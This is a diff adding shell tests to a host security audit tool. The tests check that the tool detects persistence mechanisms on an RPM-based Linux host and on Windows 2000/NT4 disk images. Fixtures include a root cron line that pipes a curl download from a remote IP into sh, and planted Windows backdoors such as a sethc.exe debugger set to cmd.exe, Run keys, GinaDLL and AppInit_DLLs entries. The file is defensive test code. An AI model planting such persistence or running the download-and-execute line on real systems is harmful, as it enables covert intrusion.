@@ -214,6 +214,25 @@ END
     holds 'summary["unknown"] > 0' 'verdicts("persist-cron") == {"unknown"}'
 }
 
+@test "a host whose packages are rpm's: unknown, said once and plainly, and never clean" {
+    host
+    rm -r "$FAKE/var/lib/dpkg"
+    mkdir -p "$FAKE/var/lib/rpm"
+    echo x >"$FAKE/var/lib/rpm/rpmdb.sqlite"
+    printf 'ID=rocky\nVERSION_ID="9.3"\nPRETTY_NAME="Rocky Linux 9.3"\n' >"$FAKE/etc/os-release"
+    rm -r "$FAKE/etc/cron.daily" "$FAKE/usr/lib/systemd"
+    code "1 3" look
+    holds 'summary["unknown"] > 0' \
+        'len([f for f in findings if f["rule"]["id"] == "could-not-look" and "where files come from" in f["subject"]["name"]]) == 1'
+    says "are rpm's, whose record is not read"
+    # a line that only intruders write is named, too, if not judged
+    printf '* * * * * root curl -s http://203.0.113.7/a | sh\n' | file etc/cron.d/x 0644
+    code "1 3" look
+    holds 'verdicts("persist-command") == {"unknown"}'
+    code "1 3" "$YAGURA" --lang ja audit --checklist persistence --root "$FAKE"
+    says "rpm"
+}
+
 @test "a user who may not read the passwords does not hear that they are good" {
     as_root
     program setpriv
@@ -239,6 +258,106 @@ END
         *) holds 'not [f for f in findings if f["severity"] == "critical" and f["verdict"] == "affected"]' ;;
         esac
     done
+}
+
+# job FILE PROGRAM ARGUMENTS: of the scheduler
+job() {
+    /usr/bin/python3 - "$@" <<'PY'
+import struct, sys
+path, *texts = sys.argv[1:]
+head = struct.pack("<HH16sHH", 0x500, 1, bytes(16), 70, 0).ljust(68, b"\0") + struct.pack("<H", 0)
+body = b"".join(struct.pack("<H", len(t) + 1) + (t + "\0").encode("utf-16-le") for t in texts)
+open(path, "wb").write(head + body)
+PY
+}
+@test "of a Windows the users, too: their keys, Startup folders, jobs, debuggers, services" {
+    images
+    program tsk_recover hivexregedit
+    local tree=$WORK/w2000 nt=$WORK/nt4
+    mkdir -p "$tree" "$nt"
+    tsk_recover -a -o 63 "$IMAGES/windows2000-iis5-mended.img" "$tree" >/dev/null
+    tsk_recover -a -o 63 "$IMAGES/nt4-iis4-mended.img" "$nt" >/dev/null
+    # as Windows has them: nothing
+    local user="$tree/Documents and Settings/ada" nt_user=$nt/winnt/Profiles/Administrator
+    "$HELPERS/registry" "$user/NTUSER.DAT" 'HKEY_CURRENT_USER' new <<'REG'
+[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
+"internat.exe"="internat.exe"
+REG
+    mkdir -p "$user/Start Menu/Programs/Startup" "$tree/WINNT/Tasks"
+    touch "$user/Start Menu/Programs/Startup/desktop.ini" "$user/Start Menu/Programs/Startup/Office.lnk"
+    "$HELPERS/registry" "$tree/WINNT/system32/config/software" 'HKEY_LOCAL_MACHINE\SOFTWARE' <<'REG'
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\Your Image File Name Here without a path]
+"Debugger"="ntsd -d"
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Active Setup\Installed Components\{A}]
+"StubPath"="regsvr32.exe /s /n /i:U shell32.dll"
+REG
+    code "0 3" "$YAGURA" audit --checklist persistence --root "$tree" --json
+    holds 'summary["found"] == 0' 'summary["unknown"] == 0'
+
+    "$HELPERS/registry" "$user/NTUSER.DAT" 'HKEY_CURRENT_USER' <<'REG'
+[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
+"a"="C:\\RECYCLER\\a.exe"
+[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\RunOnce]
+"b"="C:\\b.bat"
+[HKEY_CURRENT_USER\Software\Microsoft\Windows NT\CurrentVersion\Winlogon]
+"Shell"="explorer.exe c:\\c.exe"
+[HKEY_CURRENT_USER\Software\Microsoft\Windows NT\CurrentVersion\Windows]
+"load"="C:\\WINNT\\Temp\\d.exe"
+REG
+    "$HELPERS/registry" "$nt_user/NTUSER.DAT" 'HKEY_CURRENT_USER' new <<'REG'
+[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
+"e"="C:\\Inetpub\\scripts\\e.exe"
+REG
+    "$HELPERS/registry" "$tree/WINNT/system32/config/DEFAULT" 'HKEY_CURRENT_USER' new <<'REG'
+[HKEY_CURRENT_USER\Control Panel\Desktop]
+"SCRNSAVE.EXE"="C:\\f.scr"
+REG
+    "$HELPERS/registry" "$tree/WINNT/system32/config/software" 'HKEY_LOCAL_MACHINE\SOFTWARE' <<'REG'
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe]
+"Debugger"="cmd.exe"
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Active Setup\Installed Components\{B}]
+"StubPath"="C:\\WINNT\\Fonts\\g.exe"
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon]
+"GinaDLL"="h.dll"
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows]
+"AppInit_DLLs"="i.dll"
+REG
+    "$HELPERS/registry" "$tree/WINNT/system32/config/system" 'HKEY_LOCAL_MACHINE\SYSTEM' <<'REG'
+[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\j]
+"Type"=dword:00000010
+"Start"=dword:00000002
+"ImagePath"="D:\\stuff\\bin\\j.exe -k"
+"ObjectName"=".\\svc"
+REG
+    echo x >"$user/Start Menu/Programs/Startup/k.vbs"
+    job "$tree/WINNT/Tasks/At1.job" 'C:\WINNT\Temp\l.exe' '/q'
+    code 1 "$YAGURA" audit --checklist persistence --root "$tree" --json
+    run found
+    for line in 'persist-windows-place critical HKCU of ada\Software\Microsoft\Windows\CurrentVersion\Run!a' \
+        'persist-windows-place critical HKCU of ada\Software\Microsoft\Windows\CurrentVersion\RunOnce!b' \
+        'persist-windows-logon high HKCU of ada\Software\Microsoft\Windows NT\CurrentVersion\Winlogon!Shell' \
+        'CurrentVersion\Windows!load' 'HKCU of the system\Control Panel\Desktop!SCRNSAVE.EXE' 'sethc.exe!Debugger' \
+        '{B}!StubPath' 'Winlogon!GinaDLL' '!AppInit_DLLs' 'persist-windows-service medium HKLM\SYSTEM\CurrentControlSet\Services!j' \
+        'persist-windows-startup high' 'Startup/k.vbs' 'Tasks/At1.job'; do
+        says "$line"
+    done
+    says_not 'Office.lnk' '{A}' 'internat' 'without a path'
+    code 1 "$YAGURA" audit --checklist persistence --root "$nt" --json
+    run found
+    says 'HKCU of Administrator\Software\Microsoft\Windows\CurrentVersion\Run!e'
+    # the account that a service starts with is one to be changed
+    code "0 3" "$YAGURA" facts secrets --root "$tree" --json
+    holds 'any(s["reach"] == "system-account" and s["name"] == ".\\svc" for s in kind("secret"))'
+
+    # what cannot be read is not clean, and is said
+    head -c 3000 "$user/NTUSER.DAT" >"$WORK/cut" && cp "$WORK/cut" "$nt_user/NTUSER.DAT"
+    echo x >"$tree/WINNT/Tasks/At1.job"
+    echo nothing >"$user/NTUSER.DAT"
+    code "1 3" "$YAGURA" audit --checklist persistence --root "$nt" --json
+    holds 'summary["unknown"] > 0' '"unknown" in verdicts("persist-windows-place")'
+    says "Profiles/Administrator/NTUSER.DAT"
+    code "1 3" "$YAGURA" audit --checklist persistence --root "$tree" --json
+    says "ada/NTUSER.DAT" "it is no job that we know"
 }
 
 @test "secrets are listed by reach, and none is told" {
